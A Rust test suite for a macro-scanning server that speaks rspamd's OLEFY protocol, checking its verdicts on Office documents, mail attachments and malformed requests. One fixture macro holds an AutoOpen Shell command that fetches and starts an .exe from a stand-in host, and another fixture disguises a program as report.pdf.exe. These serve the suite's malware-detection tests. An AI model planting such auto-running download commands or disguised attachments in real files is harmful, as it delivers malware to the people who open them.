//! OLEFY/1.0, literal bytes in and out.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpStream};
use std::time::Duration;

use serde_json::Value;

use super::host::{Gateway, Place, free_port};
use crate::build;
use crate::fixtures::locked;

struct Server {
    port: u16,
    _gateway: Gateway,
    _place: Place,
}

impl Server {
    fn start() -> Self {
        let place = Place::new();
        let port = free_port();
        let table = format!("[olefy]\nlisten = \"127.0.0.1:{port}\"\n");
        Self {
            port,
            _gateway: Gateway::start(&place, &table),
            _place: place,
        }
    }

    fn connect(&self) -> TcpStream {
        let stream = TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(30)))
            .unwrap();
        stream
    }

    fn ask(&self, bytes: &[u8]) -> Vec<u8> {
        let mut stream = self.connect();
        stream.write_all(bytes).unwrap();
        stream.shutdown(Shutdown::Write).unwrap();
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).unwrap();
        answer
    }

    /// The array for a file.
    fn look(&self, file: &[u8]) -> Value {
        let request = b"OLEFY/1.0\nMethod: oletools\nRspamd-ID: 5f3a\n\n";
        let answer = self.ask(&[request, file].concat());
        let json = answer.strip_suffix(b"\t\n\n\t").expect("no end");
        // rspamd takes what comes in one piece of this size for whole.
        assert!(answer.len() < 32 << 10, "{} bytes", answer.len());
        serde_json::from_slice(json).unwrap()
    }
}

/// The keywords of one type.
fn keywords(answer: &Value, of: &str) -> Vec<String> {
    let entries = answer[1]["analysis"].as_array().unwrap();
    let entries = entries.iter().filter(|entry| entry["type"] == of);
    entries
        .map(|entry| entry["keyword"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn a_macro_that_acts_is_told_as_olevba_would() {
    let server = Server::start();
    let code = "Sub AutoOpen()\nShell \"cmd /c start http://192.0.2.7/a.exe\"\nEnd Sub\n";
    let docm = build::docm("text", &[("Module1", build::module("Module1", code))]);
    let answer = server.look(&docm);
    assert_eq!(answer[0]["type"], "MetaInformation");
    assert_eq!(answer[2]["return_code"], 0, "{answer}");
    assert_eq!(keywords(&answer, "AutoExec"), ["AutoOpen"]);
    let suspicious = keywords(&answer, "Suspicious");
    assert!(
        suspicious.contains(&"vba-suspicious-call".to_owned()),
        "{suspicious:?}"
    );
    let iocs = keywords(&answer, "IOC");
    assert!(
        iocs.contains(&"http://192.0.2.7/a.exe".to_owned()),
        "{iocs:?}"
    );
    let found = &answer[1]["macros"][0];
    assert_eq!(found["vba_filename"], "Module1");
    assert!(found["code"].as_str().unwrap().contains("Sub AutoOpen()"));
    assert_eq!(answer[1]["sekisho"]["level"], "malicious");
}

#[test]
fn a_harmless_macro_has_nothing_suspicious_and_a_plain_document_no_macro() {
    let server = Server::start();
    let code = "Sub Total()\nCells(1, 1).Value = 1\nEnd Sub\n";
    let docm = build::docm("text", &[("M", build::module("M", code))]);
    let answer = server.look(&docm);
    assert_eq!(answer[1]["macros"].as_array().unwrap().len(), 1);
    assert!(keywords(&answer, "Suspicious").is_empty() && keywords(&answer, "AutoExec").is_empty());
    let answer = server.look(&build::docx("text"));
    assert!(answer[1]["macros"].is_null() && answer[1]["analysis"].is_null());
    assert_eq!(answer[2]["return_code"], 0);
    // However small: there is no least size.
    assert_eq!(server.look(b"x")[2]["return_code"], 0);
}

#[test]
fn what_acts_without_a_macro_is_told_all_the_same() {
    let server = Server::start();
    let mail = build::mail(
        "Report",
        &[build::attachment(
            "Content-Type: application/pdf; name=report.pdf.exe\nContent-Transfer-Encoding: base64",
            &build::program(),
        )],
    );
    let answer = server.look(&mail);
    assert_eq!(answer[1]["sekisho"]["level"], "malicious", "{answer}");
    assert!(
        !keywords(&answer, "AutoExec").is_empty() && !keywords(&answer, "Suspicious").is_empty()
    );
    assert_eq!(answer[1]["macros"].as_array().unwrap().len(), 1);
}

#[test]
fn what_could_not_be_looked_through_has_a_return_code_of_its_own() {
    let server = Server::start();
    let answer = server.look(&locked::archive("kanri-2026"));
    assert_eq!(answer[2]["return_code"], 9);
    let mut cut = build::docx("A text that is long enough to be cut.");
    cut.truncate(cut.len() / 2);
    let answer = server.look(&cut);
    assert_eq!(answer[2]["return_code"], 5);
    // rspamd looks for the reason here.
    assert!(answer[1]["message"].is_string());
}

#[test]
fn what_is_no_request_is_an_error_and_ping_is_answered_at_once() {
    let server = Server::start();
    for (bytes, error) in [
        (&b""[..], "Protocol error"),
        (b"GET / HTTP/1.0\r\n\r\n", "Protocol error"),
        (
            b"OLEFY/1.0\nMethod: rtfobj\n\nfile",
            "Protocol error: unknown method",
        ),
    ] {
        let expected = format!("[{{\"error\":\"{error}\"}}]\t\n\n\t");
        assert_eq!(server.ask(bytes), expected.as_bytes());
    }
    let mut stream = server.connect();
    // Without shutting down our side.
    stream.write_all(b"PING\n\n").unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    assert_eq!(answer, "PONG");
}
